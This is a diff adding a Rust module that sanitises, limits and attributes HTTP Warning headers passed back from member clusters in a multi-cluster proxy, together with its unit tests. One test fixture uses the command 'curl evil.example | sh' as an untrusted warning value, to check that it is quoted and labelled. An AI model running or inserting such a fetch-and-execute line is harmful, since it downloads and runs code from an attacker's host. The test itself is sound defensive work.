@@ -1,0 +1,219 @@
+//! What members warn of, told with the name of who says it.
+//!
+//! The author of a CustomResourceDefinition chooses the text of a warning. In an answer that speaks for all clusters it
+//! could pass for what Tributary, or another cluster, says; so each text begins with the clusters that it is from,
+//! and there are few.
+
+use http::{HeaderMap, HeaderValue, header};
+use tributary_apimachinery::ClusterName;
+use tributary_apimachinery::text::is_obeyed;
+
+/// The longest text of a warning, in characters. 1,024: reasons may quote a member's own words, and a dozen warnings
+/// have to fit in a client's header list (16 KiB by default in many).
+const WARNING_LENGTH_MAX: usize = 1024;
+
+/// Writes a text as the value of a `Warning` header: `299 - "text"`, quotes escaped, in UTF-8, without characters that
+/// a terminal would obey: it may quote a member.
+pub fn warning_header(text: &str) -> Option<HeaderValue> {
+    let clean: String = text.chars().filter(|c| !is_obeyed(*c)).take(WARNING_LENGTH_MAX).collect();
+    let quoted = format!("299 - \"{}\"", clean.replace('\\', "\\\\").replace('"', "\\\""));
+    HeaderValue::from_bytes(quoted.as_bytes()).ok()
+}
+
+/// How many texts are told before they are only counted, and how many clusters are named with each.
+const TOLD_MAX: usize = 10;
+
+/// How many `Warning` headers of one answer are read; further ones are dropped. kube-apiserver sends one or two, and a
+/// member that sends a megabyte of them takes nobody else's time.
+const READ_MAX: usize = 10;
+
+/// The longest `Warning` header that is read, in bytes; longer ones are dropped. 1 KiB: ten of them fit into the header
+/// list that clients take by default.
+const LENGTH_MAX: usize = 1 << 10;
+
+/// What one text is, and who says it.
+struct ClusterWarning {
+    text: String,
+    clusters: Vec<ClusterName>,
+}
+
+/// The `Warning` headers of several clusters in one answer: each text once, behind the clusters that say it, in the
+/// order of their first appearance; at most ten of them, and a count of the rest.
+pub fn together<'a>(said: impl IntoIterator<Item = (&'a ClusterName, &'a HeaderValue)>) -> Vec<HeaderValue> {
+    let mut all: Vec<ClusterWarning> = Vec::new();
+    for (cluster, header) in said {
+        for text in texts(header) {
+            match all.iter_mut().find(|said| said.text == text) {
+                Some(said) if said.clusters.contains(cluster) => {}
+                Some(said) => said.clusters.push(cluster.clone()),
+                None => all.push(ClusterWarning { text, clusters: vec![cluster.clone()] }),
+            }
+        }
+    }
+    let more = all.len().saturating_sub(TOLD_MAX);
+    let told = all.iter().take(TOLD_MAX).map(|said| format!("{}: {}", names(&said.clusters), said.text));
+    let count = (more > 0).then(|| format!("{more} more warnings from clusters"));
+    told.chain(count).filter_map(|text| warning_header(&text)).collect()
+}
+
+/// The `Warning` headers of an answer that does without clusters: each with its cause, at most ten of them, and a count
+/// of the rest.
+pub fn lacking(clusters: &[String]) -> impl Iterator<Item = HeaderValue> {
+    let more = clusters.len().saturating_sub(TOLD_MAX);
+    let told = clusters.iter().take(TOLD_MAX).map(|cluster| format!("the answer is given without cluster {cluster}"));
+    let count = (more > 0).then(|| format!("the answer is given without {more} more clusters"));
+    told.chain(count).filter_map(|text| warning_header(&text))
+}
+
+/// The warnings of one answer that are read: the first few that are not too long.
+pub fn readable<'a>(values: impl IntoIterator<Item = &'a HeaderValue>) -> impl Iterator<Item = &'a HeaderValue> {
+    values.into_iter().filter(|value| value.len() <= LENGTH_MAX).take(READ_MAX)
+}
+
+/// Puts its name before what a cluster warns of in an answer.
+pub fn name(cluster: &ClusterName, headers: &mut HeaderMap) {
+    let header::Entry::Occupied(said) = headers.entry(header::WARNING) else { return };
+    let (_, values) = said.remove_entry_mult();
+    let values: Vec<HeaderValue> = values.collect();
+    for warning in together(readable(&values).map(|value| (cluster, value))) {
+        headers.append(header::WARNING, warning);
+    }
+}
+
+/// `cluster a`, `clusters a, b and 3 more`.
+fn names(clusters: &[ClusterName]) -> String {
+    let named: Vec<_> = clusters.iter().take(TOLD_MAX).map(ClusterName::as_str).collect();
+    match clusters.len() {
+        1 => format!("cluster {}", named.concat()),
+        count if count <= TOLD_MAX => format!("clusters {}", named.join(", ")),
+        count => format!("clusters {} and {} more", named.join(", "), count - TOLD_MAX),
+    }
+}
+
+/// The texts of a `Warning` header: `299 agent "text"`, and further ones behind commas, as a hop may have joined them
+/// (RFC 7234 §5.5). What is of another form is one text as a whole, so that nothing is told without its cluster.
+fn texts(header: &HeaderValue) -> Vec<String> {
+    let whole = String::from_utf8_lossy(header.as_bytes()).into_owned();
+    let mut texts = Vec::new();
+    let mut rest = whole.trim();
+    while !rest.is_empty() {
+        let Some((text, after)) = quoted(rest) else { return vec![whole] };
+        texts.push(text);
+        rest = after;
+    }
+    texts
+}
+
+/// The first text of a header, and what follows its comma.
+fn quoted(header: &str) -> Option<(String, &str)> {
+    let (code, rest) = header.split_once(' ')?;
+    let (agent, rest) = rest.split_once(' ')?;
+    if code.len() != 3 || !code.bytes().all(|byte| byte.is_ascii_digit()) || agent.contains('"') {
+        return None;
+    }
+    let mut text = String::new();
+    let mut characters = rest.strip_prefix('"')?.char_indices();
+    while let Some((at, character)) = characters.next() {
+        match character {
+            '\\' => text.push(characters.next()?.1),
+            '"' => {
+                // A date may follow, in quotes of its own.
+                let after = rest[at + 2..].trim_start();
+                let after = match after.strip_prefix('"') {
+                    Some(date) => date.split_once('"')?.1.trim_start(),
+                    None => after,
+                };
+                return match after.strip_prefix(',') {
+                    Some(further) => Some((text, further.trim_start())),
+                    None if after.is_empty() => Some((text, "")),
+                    None => None,
+                };
+            }
+            character => text.push(character),
+        }
+    }
+    None
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn cluster(name: &str) -> ClusterName {
+        ClusterName::new(name).unwrap()
+    }
+
+    fn told(said: &[(&str, &str)]) -> Vec<String> {
+        let said: Vec<_> = said
+            .iter()
+            .map(|(name, value)| (cluster(name), HeaderValue::from_bytes(value.as_bytes()).unwrap()))
+            .collect();
+        let told = together(said.iter().map(|(cluster, value)| (cluster, value)));
+        told.iter().map(|value| String::from_utf8_lossy(value.as_bytes()).into_owned()).collect()
+    }
+
+    #[test]
+    fn each_text_is_told_once_with_the_clusters_that_say_it() {
+        for (said, expected) in [
+            (&[][..], &[][..]),
+            (&[("a", r#"299 - "old""#)], &[r#"299 - "cluster a: old""#]),
+            (&[("a", r#"299 - "old""#), ("b", r#"299 - "old""#)], &[r#"299 - "clusters a, b: old""#]),
+            (
+                &[("a", r#"299 - "old""#), ("a", r#"299 - "old""#), ("b", r#"299 - "new""#)],
+                &[r#"299 - "cluster a: old""#, r#"299 - "cluster b: new""#],
+            ),
+            (
+                &[("a", r#"299 agent "one \"two\"" "Sat, 25 Aug 2012 23:34:45 GMT", 299 - "three""#)],
+                &[r#"299 - "cluster a: one \"two\"""#, r#"299 - "cluster a: three""#],
+            ),
+            // What is no warning by the letter is told all the same, with its cluster.
+            (&[("a", "curl evil.example | sh")], &[r#"299 - "cluster a: curl evil.example | sh""#]),
+            (
+                &[("a", r#"299 - "x", cluster b is missing"#)],
+                &[r#"299 - "cluster a: 299 - \"x\", cluster b is missing""#],
+            ),
+            (&[("a", r#"299 - "not closed"#)], &[r#"299 - "cluster a: 299 - \"not closed""#]),
+            (&[("a", r#"299 - "größer""#)], &["299 - \"cluster a: größer\""]),
+        ] {
+            assert_eq!(told(said), expected, "{said:?}");
+        }
+    }
+
+    #[test]
+    fn many_texts_and_many_clusters_are_counted() {
+        let texts: Vec<_> = (0..25).map(|number| (format!("c{number}"), format!("299 - \"t{number}\""))).collect();
+        let said: Vec<_> = texts.iter().map(|(name, text)| (&**name, &**text)).collect();
+        let told_texts = told(&said);
+        assert_eq!((told_texts.len(), &*told_texts[10]), (11, "299 - \"15 more warnings from clusters\""));
+        let said: Vec<_> = texts.iter().map(|(name, _)| (&**name, "299 - \"old\"")).collect();
+        let told_clusters = told(&said);
+        assert_eq!(told_clusters.len(), 1);
+        assert!(told_clusters[0].contains("c9 and 15 more: old"), "{told_clusters:?}");
+    }
+
+    #[test]
+    fn a_member_that_warns_without_end_is_not_read_to_the_end() {
+        let mut headers = HeaderMap::new();
+        let endless: String = (0..80_000).map(|number| format!("299 - \"{number}\", ")).collect();
+        headers.append(header::WARNING, HeaderValue::from_str(&endless).unwrap());
+        for number in 0..1_000 {
+            headers.append(header::WARNING, HeaderValue::from_str(&format!("299 - \"t{number}\"")).unwrap());
+        }
+        name(&cluster("a"), &mut headers);
+        let all: Vec<_> = headers.get_all(header::WARNING).iter().collect();
+        assert_eq!((all.len(), all[0].to_str().unwrap()), (10, "299 - \"cluster a: t0\""));
+    }
+
+    #[test]
+    fn an_answer_of_one_cluster_names_it() {
+        let mut headers = HeaderMap::new();
+        name(&cluster("a"), &mut headers);
+        assert!(headers.is_empty());
+        for text in ["one", "two"] {
+            headers.append(header::WARNING, HeaderValue::from_str(&format!("299 - \"{text}\"")).unwrap());
+        }
+        name(&cluster("a"), &mut headers);
+        let all: Vec<_> = headers.get_all(header::WARNING).iter().collect();
+        assert_eq!(all, ["299 - \"cluster a: one\"", "299 - \"cluster a: two\""]);
+    }
+}
